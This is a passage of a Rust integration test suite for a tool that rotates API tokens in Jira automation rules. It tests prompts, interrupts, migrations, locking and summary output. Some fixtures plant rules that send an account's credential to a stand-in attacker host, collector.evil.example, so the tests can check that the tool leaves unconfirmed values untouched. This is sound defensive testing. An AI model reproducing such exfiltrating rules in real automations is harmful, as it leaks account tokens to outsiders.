/// Ctrl-C at a group's question interrupts the run (exit 1), every rule of the group "not
/// attempted: interrupted"; `q` quits it (exit 3), "not attempted: you quit".
#[test]
fn ctrl_c_at_a_group_question_interrupts_and_quit_quits() {
    for (key, code, why) in [('c', 1, "interrupted"), ('q', 3, "you quit")] {
        let desk = Desk::new(3);
        let mut screen = desk.group_asked();
        match key {
            'c' => screen.session.send_control('c').expect("press Ctrl-C"),
            _ => {
                screen.session.send_line("q").expect("type on the pty");
            }
        }
        let (got, transcript) = screen.finish();

        assert_no_secrets(&transcript, desk.site.secrets());
        assert_eq!(got, code, "{transcript}");
        assert_eq!(puts(&desk.site), 0, "nothing was written");
        assert_eq!(summary_count(&transcript, "not attempted"), 3);
        for (name, _) in &desk.by_name {
            assert!(
                transcript.contains(&format!("Not attempted \"{name}\": {why}")),
                "{transcript}"
            );
        }
    }
}

/// Done-when of issue 18: 300 rules on the sandbox, three places the same token sits in
/// (three header names), are rotated at a terminal with five answers: the new token twice,
/// then one yes per group.
#[test]
fn three_hundred_rules_are_rotated_with_a_handful_of_answers() {
    let shapes = [
        ("Authorization", 200),
        ("X-Jira-Authorization", 70),
        ("Proxy-Authorization", 30),
    ];
    let mut rules = Vec::new();
    for (header, n) in shapes {
        let mut rule = fixture_01();
        rule["rule"]["components"][0]["value"]["headers"][0]["name"] = header.into();
        rule["rule"]["name"] = format!("{header} comment").into();
        rules.extend(copies_of(&rule, n));
    }
    let planted = Planted::new(rules);
    let site = planted.site_spec().start();
    let new_token = planted.fresh(SVC_JIRA_NEW_FIXTURE);
    let expected = Expected::rotation(&snapshot(&site), SVC_JIRA, &new_token);
    let backups = site.dir.path().join("backups");

    let mut screen = Screen::rotate(&site, &backups);
    screen.answer("Paste the new API token", &new_token);
    screen.answer("Paste the new API token again", &new_token);
    // Groups come in the order of their first rule's name.
    let mut first = 1;
    for (header, n) in [shapes[0], shapes[2], shapes[1]] {
        let asked = format!(
            "({first}-{}/300) Rotate {n} rules: {header} header (Basic",
            first + n - 1
        );
        screen.answer(&asked, "y");
        screen.expect(&format!("Rotated \"{header} comment #{n}\""));
        first += n;
    }
    let (code, transcript) = screen.finish();

    assert_no_secrets(&transcript, site.secrets());
    assert_eq!(code, 0, "{transcript}");
    assert_eq!(
        transcript.matches(GROUP_ANSWERS).count(),
        3,
        "one question per group:\n{transcript}"
    );
    assert!(
        !transcript.contains("\"? [y]es / [n]o / [a]ll remaining"),
        "no rule asked about alone:\n{transcript}"
    );
    assert_eq!(summary_count(&transcript, "rotated"), 300);
    expected.assert_site(&site);
}

#[test]
fn mistyped_token_confirmation_and_answers_are_asked_again_then_all_remaining() {
    let (planted, site) = copies_site(3, |_| {});
    let new_token = planted.fresh(SVC_JIRA_NEW_FIXTURE);
    let before = snapshot(&site);
    let expected = Expected::rotation(&before, SVC_JIRA, &new_token);
    let mut names: Vec<String> = before
        .values()
        .map(|e| e["rule"]["name"].as_str().unwrap().to_owned())
        .collect();
    names.sort();
    let backups = site.dir.path().join("backups");

    let mut screen = Screen::rotate(&site, &backups);
    // A typo in the confirmation: nothing is checked or written, the prompt starts again.
    screen.answer("Paste the new API token", &new_token);
    screen.answer("Paste the new API token again", &format!("{new_token}x"));
    screen.expect("The two entries differ; try again");
    screen.answer("Paste the new API token", &new_token);
    screen.answer("Paste the new API token again", &new_token);
    screen.answer(GROUP_ANSWERS, "x");
    screen.answer("answer y, n, l, d, r, a or q", "r");
    screen.answer(&question(&names[0]), "x");
    screen.answer("answer y, n, a or q", "a");
    let (code, transcript) = screen.finish();

    assert_no_secrets(&transcript, site.secrets());
    assert_eq!(code, 0, "every rule approved and rotated:\n{transcript}");
    for name in &names[1..] {
        assert!(
            !transcript.contains(&question(name)),
            "\"all remaining\" asks nothing more"
        );
    }
    let attempts = site.stats().myself(SVC_JIRA);
    assert_eq!(
        (attempts.ok, attempts.failed),
        (2, 0),
        "the new token is checked once, after it was typed twice, and the old one once, \
         which confirms it as the account's"
    );
    assert_eq!(summary_count(&transcript, "rotated"), 3);
    expected.assert_site(&site);
}

/// Ctrl-C at the question is not "quit": the run stops, the rules left are "not attempted:
/// interrupted", and it fails (exit 1), as Ctrl-C anywhere else in a run does.
#[test]
fn ctrl_c_at_the_question_interrupts_the_run_after_the_rule_approved() {
    let desk = Desk::new(3);
    let mut screen = desk.first_rule_rotated();
    screen.interrupt(&question(&desk.by_name[1].0));
    let (code, transcript) = screen.finish();

    assert_eq!(code, 1, "an interrupted run fails:\n{transcript}");
    let summary = desk.only_the_first_rotated(&transcript);
    assert_eq!(summary_count(&transcript, "not attempted"), 2);
    for (name, _) in &desk.by_name[1..] {
        assert!(
            summary.contains(&format!("Not attempted \"{name}\": interrupted")),
            "{summary}"
        );
    }
    assert!(!transcript.contains("you quit"), "{transcript}");
}

/// Ctrl-C at the hidden prompt: a clear error and exit 1 (not a panic, not a death by
/// signal with the terminal's echo left off), and nothing is written.
#[test]
fn ctrl_c_at_the_token_prompt_is_a_clear_error() {
    let (_, site) = copies_site(2, |_| {});
    let backups = site.dir.path().join("backups");

    let mut screen = Screen::rotate(&site, &backups);
    screen.interrupt("Paste the new API token");
    screen.expect("Error: interrupted: no new API token was read");
    let (code, transcript) = screen.finish();

    assert_eq!(code, 1, "{transcript}");
    assert!(!transcript.contains("panicked"), "{transcript}");
    assert!(transcript.contains("Hint: "), "{transcript}");
    assert_eq!(puts(&site), 0);
}

/// `rotate --from-file` of `n` copies of fixture 01 at a terminal, its one question about
/// the old token answered yes: the rules' questions come next.
struct Offline {
    planted: Planted,
    new_token: String,
    _dir: tempfile::TempDir,
    target: std::path::PathBuf,
    screen: Screen,
}

impl Offline {
    fn start(n: usize) -> Offline {
        let planted = Planted::new(copies_of(&fixture_01(), n));
        let new_token = planted.fresh(SVC_JIRA_NEW_FIXTURE);
        let dir = tempfile::tempdir().expect("a temp dir");
        let input = dir.path().join("rules.json");
        let rules = serde_json::to_string(&planted.rules).expect("serialize");
        std::fs::write(&input, rules).expect("write the rules");
        let target = dir.path().join("rotated.json");
        let mut cmd = crate::common::autorekey();
        cmd.env("AUTOREKEY_NEW_TOKEN", &new_token)
            .args(["rotate", "--account", SVC_JIRA, "--from-file"])
            .arg(&input)
            .arg("--write")
            .arg(&target);
        let mut screen = Screen::spawn(std_command(&cmd));
        // Offline no login can confirm the old token: one question for it, before the rules.
        screen.answer(
            "old token, to be replaced with the new one? A value a rule editor \
             planted would send the new token to them [y]es / [N]o",
            "y",
        );
        Offline {
            planted,
            new_token,
            _dir: dir,
            target,
            screen,
        }
    }

    fn name(&self, i: usize) -> &str {
        self.planted.rules[i]["rule"]["name"]
            .as_str()
            .expect("a name")
    }

    /// The end: exit status, transcript (checked for every token) and the rotated file,
    /// if one was written.
    fn finish(self) -> (i32, String, Option<String>) {
        let (code, transcript) = self.screen.finish();
        let mut secrets = self.planted.secrets();
        secrets.push(self.new_token);
        assert_no_secrets(&transcript, &secrets);
        (code, transcript, std::fs::read_to_string(&self.target).ok())
    }
}

/// Ctrl-C at an offline question (`rotate --from-file`): no file is written, the rules
/// left are "not attempted: interrupted", and the run fails (exit 1).
#[test]
fn ctrl_c_at_an_offline_question_writes_no_file() {
    let mut offline = Offline::start(2);
    let names = [offline.name(0).to_owned(), offline.name(1).to_owned()];
    // The two copies make one change: one question, reviewed rule by rule on request.
    offline.screen.answer(GROUP_ANSWERS, "r");
    offline.screen.answer(&question(&names[0]), "y");
    offline.screen.interrupt(&question(&names[1]));
    let (code, transcript, written) = offline.finish();

    assert_eq!(code, 1, "{transcript}");
    assert!(transcript.contains("interrupted: nothing was written"));
    assert!(transcript.contains(&format!("Not attempted \"{}\": interrupted", names[1])));
    assert!(written.is_none(), "no rotated file");
}

/// Offline, the copies that make one change are one question too: one yes writes them all.
#[test]
fn an_offline_group_is_one_question() {
    let mut offline = Offline::start(3);
    offline
        .screen
        .answer("(1-3/3) Rotate 3 rules: Authorization header (Basic", "y");
    let (code, transcript, written) = offline.finish();

    assert_eq!(code, 0, "{transcript}");
    assert_eq!(transcript.matches(GROUP_ANSWERS).count(), 1, "{transcript}");
    assert_eq!(summary_count(&transcript, "rotated"), 3, "{transcript}");
    let written = written.expect("the rotated file");
    let rules: serde_json::Value = serde_json::from_str(&written).expect("JSON");
    assert_eq!(rules.as_array().map(Vec::len), Some(3), "{written}");
}

#[test]
fn quit_when_asked_again_about_a_rule_edited_meanwhile_stops_the_run() {
    // Rule #01 is edited by another admin right after it is read: approving it shows the
    // rebuilt rewrite and asks again. "q" there means quit, as at any other question:
    // nothing more is asked or written, and the rest are "not attempted: you quit".
    let planted = Planted::new(copies_of(&fixture_01(), 3));
    let first = planted.rules[0]["rule"]["uuid"]
        .as_str()
        .expect("a uuid")
        .to_owned();
    let site = planted
        .site_spec()
        .with(|c| {
            c.trap_edit_after_reads.insert(first.clone(), 1);
        })
        .start();
    let new_token = planted.fresh(SVC_JIRA_NEW_FIXTURE);
    let mut names: Vec<String> = snapshot(&site)
        .values()
        .map(|e| e["rule"]["name"].as_str().unwrap().to_owned())
        .collect();
    names.sort();
    let backups = site.dir.path().join("backups");

    let mut screen = Screen::rotate(&site, &backups);
    screen.answer("Paste the new API token", &new_token);
    screen.answer("Paste the new API token again", &new_token);
    // One question for the three copies; the rule edited meanwhile is asked about alone.
    screen.answer(&group_question(3), "y");
    screen.answer(&format!("Rotate the current \"{}\"?", names[0]), "q");
    let (code, transcript) = screen.finish();

    assert_no_secrets(&transcript, site.secrets());
    assert_eq!(code, 3, "quit is not a failure of the run:\n{transcript}");
    assert!(
        !transcript.contains(&question(&names[1])),
        "nothing is asked after quit:\n{transcript}"
    );
    assert_eq!(puts(&site), 0, "nothing was written");
    assert_eq!(summary_count(&transcript, "not attempted"), 3);
    assert_eq!(summary_count(&transcript, "declined"), 0);
}

/// Ctrl-D at the question (nobody will type more) is "quit", said as such: nothing more is
/// written, the rules left are listed (exit 3), and no error is printed for it.
#[test]
fn ctrl_d_at_the_question_quits() {
    let desk = Desk::new(3);
    let mut screen = desk.first_rule_rotated();
    screen.expect(&question(&desk.by_name[1].0));
    screen.session.send_control('d').expect("press Ctrl-D");
    let (code, transcript) = screen.finish();

    assert_eq!(code, 3, "{transcript}");
    let summary = desk.only_the_first_rotated(&transcript);
    for (name, _) in &desk.by_name[1..] {
        assert!(
            summary.contains(&format!("Not attempted \"{name}\": you quit")),
            "{summary}"
        );
    }
    assert!(!transcript.contains("Error"), "{transcript}");
}

/// A line at the question that cannot be an answer (too long, not text) is asked again,
/// like any other wrong answer: it is not taken as "quit".
#[test]
fn an_overlong_answer_is_asked_again() {
    let desk = Desk::new(2);
    let mut screen = desk.first_rule_rotated();
    screen.answer(&question(&desk.by_name[1].0), &"y".repeat(5000));
    screen.answer("answer y, n, a or q", "y");
    let (code, transcript) = screen.finish();

    assert_no_secrets(&transcript, desk.site.secrets());
    assert_eq!(code, 0, "{transcript}");
    desk.expected.assert_site(&desk.site);
}

/// At a terminal each value nothing confirmed is one question, after its rules, where they
/// send it, who wrote them and what the login said. "No" (the default) leaves it alone;
/// "yes" rotates it, as an admin does for a real token that expired.
#[test]
fn each_unconfirmed_value_is_one_question_and_only_a_yes_rotates_it() {
    const VOUCH: &str = "planted would send the new token to them [y]es / [N]o";
    for answer in ["n", "y"] {
        let p = planted_site();
        let new_file = p.site.write_file("new-token", &p.new);
        let mut cmd = p.site.cmd();
        cmd.args(["rotate", "--account", ALICE, "--new-token-file"])
            .arg(&new_file)
            .arg("--backup-dir")
            .arg(p.site.dir.path().join("backups"));
        let mut screen = Screen::spawn(std_command(&cmd));
        for _ in 0..4 {
            screen.answer(VOUCH, answer);
        }
        // A group's question or a lone rule's, whichever comes first: both take "a".
        screen.answer("[a]ll remaining / [q]uit", "a");
        let (code, transcript) = screen.finish();
        assert_no_secrets(&transcript, p.site.secrets());
        assert!(
            transcript.contains("sends to: collector.evil.example"),
            "{transcript}"
        );
        assert!(p.rule(REAL).contains(&basic(ALICE, &p.new)), "{transcript}");
        let planted =
            [PLANTED_JUNK, PLANTED_SITE].map(|u| p.rule(u).contains(&basic(ALICE, &p.new)));
        match answer {
            "n" => {
                assert_eq!(code, 3, "{transcript}");
                assert_eq!(planted, [false, false], "{transcript}");
                assert!(transcript.contains("you said it is not the account's token"));
                assert!(transcript.contains("Revoke nothing yet"), "{transcript}");
            }
            _ => assert_eq!(planted, [true, true], "{transcript}"),
        }
    }
}

#[test]
fn a_migration_that_leaves_the_old_token_in_a_rule_gives_no_revoke_advice() {
    let (old, new) = (fake_token(), fake_token());
    let kept = format!("https://alice%40acme.example:{old}@hooks.example.com/x");
    let site = site(
        vec![
            web_request_to(1, "{{baseUrl}}/rest/api/3/issue", ALICE, &old),
            web_request_to(2, &kept, ALICE, &old),
        ],
        vec![
            account(ALICE, false, &[&old], &[]),
            account(BOT, false, &[], &[]),
        ],
        vec![scoped(BOT, &new, true)],
    );
    let backups = site.dir.path().join("backups");
    let mut args = MIGRATE.to_vec();
    args.extend([backups.to_str().unwrap(), "--yes"]);
    let out = run_with_gateway(&site, &args, Some(&new));
    out.expect_code(3);
    assert!(out.stdout.contains("Do NOT revoke"), "{}", out.stdout);
    assert!(!out.stdout.contains("autorekey revoke"), "{}", out.stdout);
    assert_eq!(stored(&site, 2)["url"], kept.as_str());
}

/// A migration follows the confirmation rule too: alice's real token (it logs in as her)
/// moves to the service account; a planted `alice:junk` sent to another host gets nothing.
#[test]
fn a_migration_moves_only_values_confirmed_as_the_accounts_token() {
    let (old, new, junk) = (fake_token(), fake_token(), fake_token());
    let site = site(
        vec![
            web_request_to(1, "{{baseUrl}}/rest/api/3/issue", ALICE, &old),
            web_request_to(2, "https://collector.evil.example/x", ALICE, &junk),
        ],
        vec![
            account(ALICE, false, &[&old], &[]),
            account(BOT, false, &[], &[]),
        ],
        vec![scoped(BOT, &new, true)],
    );
    let planted_before = stored(&site, 2);
    let backups = site.dir.path().join("backups");
    let mut args = MIGRATE.to_vec();
    args.extend([backups.to_str().unwrap(), "--yes", "--format", "json"]);
    let out = run_with_gateway(&site, &args, Some(&new));
    out.expect_code(3);
    let json = out.json();
    assert_eq!(json["confirmed"][0]["evidence"], "login");
    assert_eq!(json["unconfirmed"].as_array().map(Vec::len), Some(1));
    assert_eq!(json["verdict"]["advice"], "unconfirmed");
    let moved = Credential::new(BOT, Token::new(&new)).basic_value();
    assert_eq!(
        stored(&site, 1)["headers"][0]["value"],
        format!("Basic {moved}")
    );
    assert_eq!(
        stored(&site, 2),
        planted_before,
        "the planted rule is untouched"
    );
}

#[test]
fn migration_refuses_a_new_token_the_service_account_does_not_own() {
    let m = migration_site();
    let site = &m.site;
    let backups = site.dir.path().join("backups");
    let mut args = MIGRATE.to_vec();
    args.extend([backups.to_str().unwrap(), "--yes"]);
    let wrong = fake_token();
    let mut cmd = site.cmd();
    cmd.env("AUTOREKEY_GATEWAY_URL", site.base_url())
        .env("AUTOREKEY_NEW_TOKEN", &wrong)
        .args(&args);
    let mut secrets = site.secrets().to_vec();
    secrets.push(wrong);
    let out = common::run_checked(cmd, &secrets);
    out.expect_code(2).expect_error_with_hint();
    assert!(out.stderr.contains("nothing was written"), "{}", out.stderr);
    let stats = site.stats();
    assert_eq!(stats.endpoint("PUT rule"), 0);
    assert_eq!(
        (stats.gateway(BOT).failed, stats.myself(BOT).failed),
        (1, 0)
    );
}

#[test]
fn rules_calling_the_gateway_are_rotated_and_a_scoped_token_moves_site_urls_when_asked() {
    let (bot_old, bot_new, carol_old, carol_new) =
        (fake_token(), fake_token(), fake_token(), fake_token());
    let site = site(
        vec![
            web_request_to(1, &gateway_url("rest/api/3/issue"), BOT, &bot_old),
            web_request_to(2, "{{baseUrl}}/rest/api/3/issue", CAROL, &carol_old),
        ],
        vec![
            account(BOT, false, &[], &[]),
            account(CAROL, false, &[&carol_old], &[]),
        ],
        vec![
            scoped(BOT, &bot_old, true),
            scoped(BOT, &bot_new, true),
            scoped(CAROL, &carol_new, true),
        ],
    );
    let backups = site.dir.path().join("backups");
    let backups = backups.to_str().unwrap();
    let rotate = |account: &str, extra: &[&str], token: &str| {
        let mut args = vec!["rotate", "--account", account, "--backup-dir", backups];
        args.extend_from_slice(extra);
        run_with_gateway(&site, &args, Some(token))
    };

    rotate(BOT, &["--yes"], &bot_new).expect_code(0);
    let basic = |user: &str, token: &str| {
        format!(
            "Basic {}",
            Credential::new(user, Token::new(token)).basic_value()
        )
    };
    let one = stored(&site, 1);
    assert_eq!(one["headers"][0]["value"], basic(BOT, &bot_new).as_str());
    assert_eq!(one["url"], gateway_url("rest/api/3/issue").as_str());

    let warned = rotate(CAROL, &["--dry-run"], &carol_new);
    warned.expect_code(0);
    assert!(
        warned.stderr.contains("--rewrite-urls"),
        "a scoped token sent to the site is warned about:\n{}",
        warned.stderr
    );
    rotate(CAROL, &["--rewrite-urls", "--yes"], &carol_new).expect_code(0);
    let two = stored(&site, 2);
    assert_eq!(
        two["headers"][0]["value"],
        basic(CAROL, &carol_new).as_str()
    );
    assert_eq!(
        two["url"],
        format!("{}/ex/jira/{CLOUD}/rest/api/3/issue", site.base_url()).as_str()
    );
    assert_eq!(
        site.stats().myself(BOT).ok + site.stats().myself(BOT).failed,
        0
    );
}

#[test]
fn a_new_token_that_cannot_say_whose_it_is_is_never_written() {
    let (old, limited) = (fake_token(), fake_token());
    let site = site(
        vec![web_request_to(
            1,
            "{{baseUrl}}/rest/api/3/issue",
            ALICE,
            &old,
        )],
        vec![
            account(ALICE, false, &[&old], &[]),
            account(NO_ME, false, &[], &[]),
        ],
        vec![scoped(NO_ME, &limited, false)],
    );
    let backups = site.dir.path().join("backups");
    let out = run_with_gateway(
        &site,
        &[
            "rotate",
            "--account",
            ALICE,
            "--to-account",
            NO_ME,
            "--yes",
            "--backup-dir",
            backups.to_str().unwrap(),
        ],
        Some(&limited),
    );
    out.expect_code(2).expect_error_with_hint();
    assert!(out.stderr.contains("read:jira-user"), "{}", out.stderr);
    assert_eq!(site.stats().endpoint("PUT rule"), 0);
}

#[test]
fn an_account_with_no_credential_in_any_rule_is_said_so() {
    let (_planted, site) = copies_site(2, |_| {});
    let before = snapshot(&site);
    let backups = site.dir.path().join("backups");
    // The admin's own token logs in as the admin, who has no credential in any rule.
    let admin = "admin@acme.example";
    let out = site.run_cmd(rotate_cmd(
        &site,
        admin,
        site.admin_token(),
        &backups,
        &["--yes"],
    ));
    out.expect_code(2).expect_error_with_hint();
    // The hint names the accounts the rules do hold; no summary says "nothing left to do".
    insta::assert_snapshot!(normalized_streams(&out), @"
    --- stdout
    --- stderr
    Connecting to http://127.0.0.1:PORT/ as admin@acme.example
    The new token ([fp1]) logs in as admin@acme.example at http://127.0.0.1:PORT/rest/api/3/myself.
    Reading rules at http://127.0.0.1:PORT/
    Error: no rule holds a credential of admin@acme.example that autorekey can read; nothing was written
    Hint: check the spelling of --account; the rules hold credentials of: svc-jira@acme.example
    ");
    assert_eq!(puts(&site), 0);
    assert!(!backups.exists(), "no backup directory");
    Expected::nothing(&before).assert_site(&site);
}

#[test]
fn a_new_token_already_in_the_rules_is_refused_before_any_write() {
    let (planted, site) = copies_site(3, |_| {});
    let before = snapshot(&site);
    let backups = site.dir.path().join("backups");
    let old = planted.fresh(SVC_JIRA_OLD_FIXTURE);
    // The old token given as the "new" one: it logs in, and every rule holds it.
    let out = site.run_cmd(rotate_cmd(&site, SVC_JIRA, &old, &backups, &["--yes"]));
    out.expect_code(2).expect_error_with_hint();
    assert!(
        out.stderr.contains(&format!(
            "the new token ({}) is already in 3 rules of {SVC_JIRA}",
            fp(&old)
        )),
        "{}",
        out.stderr
    );
    assert!(out.stderr.contains("nothing was written"));
    assert!(!out.stdout.contains("revoke the old"));
    // --fingerprint naming the new token itself is refused too.
    let new = planted.fresh(SVC_JIRA_NEW_FIXTURE);
    let itself = site.run_cmd(rotate_cmd(
        &site,
        SVC_JIRA,
        &new,
        &backups,
        &["--yes", "--fingerprint", &fp(&new)],
    ));
    itself.expect_code(2).expect_error_with_hint();
    assert!(itself.stderr.contains("selects the new token itself"));
    assert_eq!(puts(&site), 0);
    assert!(!backups.exists(), "no backup directory");
    Expected::nothing(&before).assert_site(&site);
}

#[test]
fn a_rerun_without_the_first_runs_files_finishes_a_partial_rotation() {
    let (planted, site) = copies_site(5, |_| {});
    let before = snapshot(&site);
    let (old, new) = old_and_new(&planted);
    // As an interrupted run on another machine leaves the site: three rules hold the new
    // token, two the old one, and this machine has none of that run's files.
    let token = Token::new(new.clone());
    let uuids: Vec<String> = before.keys().cloned().collect();
    for uuid in &uuids[..3] {
        site.state().edit_rule(uuid, |e| {
            e["rule"] = rewrite_for(&e["rule"], SVC_JIRA, &token).expect("a rewrite");
        });
    }
    let backups = site.dir.path().join("fresh-runner-backups");
    let out = site.run_cmd(rotate_cmd(&site, SVC_JIRA, &new, &backups, &["--yes"]));
    out.expect_code(0);
    assert!(!out.stderr.contains("already in"), "{}", out.stderr);
    assert_eq!(summary_count(&out.stdout, "already current"), 3);
    assert_eq!(summary_count(&out.stdout, "rotated"), 2);
    assert!(
        out.stdout.contains(&revoke_line(&old, &new)),
        "{}",
        out.stdout
    );
    assert_eq!(puts(&site), 2);
    Expected::rotation(&before, SVC_JIRA, &new).assert_site(&site);
}

#[test]
fn the_summary_names_what_to_keep_and_revoke_and_a_rerun_is_already_current() {
    let (planted, site) = copies_site(3, |_| {});
    let before = snapshot(&site);
    let backups = site.dir.path().join("backups");
    let (old, new) = old_and_new(&planted);
    let rotate = |args: &[&str]| site.run_cmd(rotate_cmd(&site, SVC_JIRA, &new, &backups, args));
    // The copies' uuids are made at run time: each is named by its copy number.
    let names: Vec<(String, String)> = before
        .iter()
        .map(|(uuid, rule)| {
            let name = rule["rule"]["name"].as_str().unwrap_or_default();
            (uuid.clone(), format!("uuid {}", &name[name.len() - 3..]))
        })
        .collect();
    let out = rotate(&["--yes"]);
    out.expect_code(0);
    insta::assert_snapshot!(normalized_naming(&out.stdout, &names), @r#"
    Rule "SUP: Post acknowledgement comment as svc-jira on new tickets #01" (uuid #01)
    --- SUP: Post acknowledgement comment as svc-jira on new tickets #01 (as read)
    +++ SUP: Post acknowledgement comment as svc-jira on new tickets #01 (rotated)
    @@ -36,5 +36,6 @@
                 "id": "_header_1695919100340",
                 "name": "Authorization",
    -            "value": "Basic <svc-jira@acme.example · [fp1]>"
    +            "value": "Basic <svc-jira@acme.example · [fp2]>",
    +            "headerSecure": true
               },
               {

    Rule "SUP: Post acknowledgement comment as svc-jira on new tickets #02" (uuid #02)
    --- SUP: Post acknowledgement comment as svc-jira on new tickets #02 (as read)
    +++ SUP: Post acknowledgement comment as svc-jira on new tickets #02 (rotated)
    @@ -36,5 +36,6 @@
                 "id": "_header_1695919100340",
                 "name": "Authorization",
    -            "value": "Basic <svc-jira@acme.example · [fp1]>"
    +            "value": "Basic <svc-jira@acme.example · [fp2]>",
    +            "headerSecure": true
               },
               {

    Rule "SUP: Post acknowledgement comment as svc-jira on new tickets #03" (uuid #03)
    --- SUP: Post acknowledgement comment as svc-jira on new tickets #03 (as read)
    +++ SUP: Post acknowledgement comment as svc-jira on new tickets #03 (rotated)
    @@ -36,5 +36,6 @@
                 "id": "_header_1695919100340",
                 "name": "Authorization",
    -            "value": "Basic <svc-jira@acme.example · [fp1]>"
    +            "value": "Basic <svc-jira@acme.example · [fp2]>",
    +            "headerSecure": true
               },
               {

    Summary for svc-jira@acme.example (old [fp1] → new [fp2]); 3 rules read:
      rotated          3

    Old token [fp1] confirmed as svc-jira@acme.example's: it logs in as the account.

    Backups (mode 0600, they hold the old tokens): [tmp]/backups/127.0.0.1-[stamp]
    Journal: [tmp]/backups/127.0.0.1-[stamp]/journal.jsonl
    Undo with: autorekey restore [tmp]/backups/127.0.0.1-[stamp]

    Next steps:
      1. Check the integrations: run or wait for each rotated rule and look at its audit log.
         A token works on every site and product of svc-jira@acme.example, and this run read only this site's automation rules of one product: check the other product's rules (`autorekey scan --product confluence`), other sites and scripts too.
      2. Then revoke the old token ([fp1]) at https://id.atlassian.com/manage-profile/security/api-tokens (signed in as svc-jira@acme.example): every rule read here that held it now holds the new token, read back.
      3. Or, with an org admin API key: autorekey revoke --account svc-jira@acme.example --token-id ID --keep [fp2] (ID from `autorekey tokens --account svc-jira@acme.example`)
    Keep the new token [fp2]; revoke the old [fp1].
    "#);
    // Which fingerprint is the old token's and which the new one's, as the snapshot cannot.
    assert!(out.stdout.contains(&revoke_line(&old, &new)));
    let dirs = run_dirs(&backups);
    assert_eq!(dirs.len(), 1);

    // A rerun naming the old token finds it nowhere, but every rule holds the new token:
    // "already current", not "matches nothing"; and no token is named for revoking.
    let again = rotate(&["--yes", "--fingerprint", &fp(&old)]);
    again.expect_code(0);
    insta::assert_snapshot!(normalized_naming(&again.stdout, &names), @"
    Summary for svc-jira@acme.example (old none left → new [fp1]); 3 rules read:
      already current  3

    Next steps:
      Nothing left to do: every rule of svc-jira@acme.example that autorekey can read already holds the new token.
      autorekey saw no old token, so it cannot name one to revoke: revoke only a token whose fingerprint differs from the new one, once every integration works.
    Keep the new token [fp1]; no old token of svc-jira@acme.example is left in the rules to name.
    ");
    // The same without --fingerprint: an earlier run of this rotation wrote the token.
    rotate(&["--yes"]).expect_code(0);
    assert_eq!(
        run_dirs(&backups),
        dirs,
        "runs that wrote nothing left no backup directory"
    );
    assert_eq!(puts(&site), 3);
    Expected::rotation(&before, SVC_JIRA, &new).assert_site(&site);
}

/// The site's lock directory, under the data directory the binary is given.
fn lock_dir(site: &TestSite) -> std::path::PathBuf {
    site.data_dir().join("autorekey").join("locks")
}

/// Waits until a lock file is in `dir`: the run has connected and is about to read.
fn wait_for_lock_file(dir: &Path) {
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(30);
    while lock_files(dir).is_empty() {
        assert!(std::time::Instant::now() < deadline, "no lock was taken");
        std::thread::sleep(std::time::Duration::from_millis(10));
    }
}

fn lock_files(dir: &Path) -> Vec<std::path::PathBuf> {
    std::fs::read_dir(dir)
        .into_iter()
        .flatten()
        .filter_map(Result::ok)
        .map(|e| e.path())
        .filter(|p| p.extension().is_some_and(|x| x == "lock"))
        .collect()
}

#[test]
fn ctrl_c_while_reading_exits_1_says_what_is_left_and_leaves_no_lock_file() {
    let (site, before, new, backups) = slow_site();
    let child = first_writer(&site, &new, &backups)
        .spawn()
        .expect("spawn autorekey");
    wait_for_lock_file(&lock_dir(&site));
    send_signal(&child, "-INT");
    let out = finish_checked(child, site.secrets());
    out.expect_code(1).expect_error_with_hint();
    assert!(out.stderr.contains("Error: interrupted"), "{}", out.stderr);
    assert!(out.stderr.contains("nothing was written"), "{}", out.stderr);
    assert_eq!(
        lock_files(&lock_dir(&site)),
        Vec::<std::path::PathBuf>::new()
    );
    assert_eq!(puts(&site), 0);
    Expected::nothing(&before).assert_site(&site);
}

/// The first of two writing runs: `rotate --yes`, one rule at a time.
fn first_writer(site: &TestSite, new: &str, backups: &Path) -> std::process::Command {
    spawnable_rotate(
        site,
        SVC_JIRA,
        new,
        backups,
        &["--yes", "--concurrency", "1"],
    )
}

/// `cmd` with the site written as `localhost` instead of `127.0.0.1`: the same site.
fn via_localhost(site: &TestSite, mut cmd: assert_cmd::Command) -> assert_cmd::Command {
    cmd.env(
        "AUTOREKEY_SITE",
        site.base_url().replace("127.0.0.1", "localhost"),
    );
    cmd
}

#[test]
fn a_second_writing_run_is_refused_by_any_spelling_of_the_site_and_a_left_file_never_blocks() {
    let (site, before, new, backups) = slow_site();
    let port = url::Url::parse(&site.base_url())
        .expect("the site's URL")
        .port()
        .expect("a port");
    // Files a killed run may leave, empty or half written, under the names a lock had
    // before and has now: whether a run may write is the system's lock alone.
    let locks = lock_dir(&site);
    let lock = locks.join(format!("jira-{}.lock", site.cloud_id()));
    std::fs::create_dir_all(&locks).expect("create the lock directory");
    for left in [lock.clone(), locks.join(format!("127.0.0.1_{port}.lock"))] {
        std::fs::write(&left, "").expect("leave an empty lock file");
    }

    let child = first_writer(&site, &new, &backups)
        .spawn()
        .expect("spawn autorekey");
    wait_for_first_write(&backups);
    let held: serde_json::Value =
        serde_json::from_slice(&std::fs::read(&lock).expect("the lock file")).expect("JSON");
    assert_eq!(held["pid"], child.id());

    let rotate = rotate_cmd(&site, SVC_JIRA, &new, &backups, &["--yes"]);
    let mut revoke = site.cmd();
    revoke.args(["revoke", "--account", SVC_JIRA, "--token-id", "t1", "--yes"]);
    for (what, cmd) in [
        (
            "rotate",
            rotate_cmd(&site, SVC_JIRA, &new, &backups, &["--yes"]),
        ),
        ("rotate via localhost", via_localhost(&site, rotate)),
        ("revoke via localhost", via_localhost(&site, revoke)),
    ] {
        let second = site.run_cmd(cmd);
        second.expect_code(1).expect_error_with_hint();
        assert!(
            second
                .stderr
                .contains("another autorekey run is writing to")
                && second.stderr.contains(&format!("process {}", child.id())),
            "{what}: {}",
            second.stderr
        );
        assert!(second.stderr.contains("nothing was written"), "{what}");
    }

    finish_checked(child, site.secrets()).expect_code(0);
    assert!(!lock.exists(), "the lock file goes with the run");
    for uuid in before.keys() {
        assert_eq!(
            site.stats().puts(uuid),
            1,
            "{uuid} written once, by the first run"
        );
    }
    Expected::rotation(&before, SVC_JIRA, &new).assert_site(&site);
}

/// Spawns a binary copied a moment ago. Another test thread forking at the moment of the
/// copy inherits its file open for writing until that child execs, and the kernel refuses
/// to run a file open for writing ("text file busy"): wait for that child to go on.
fn spawn_fresh_copy(cmd: &mut std::process::Command) -> std::process::Child {
    for _ in 0..100 {
        match cmd.spawn() {
            Err(e) if e.kind() == std::io::ErrorKind::ExecutableFileBusy => {
                std::thread::sleep(std::time::Duration::from_millis(20));
            }
            other => return other.expect("spawn the renamed binary"),
        }
    }
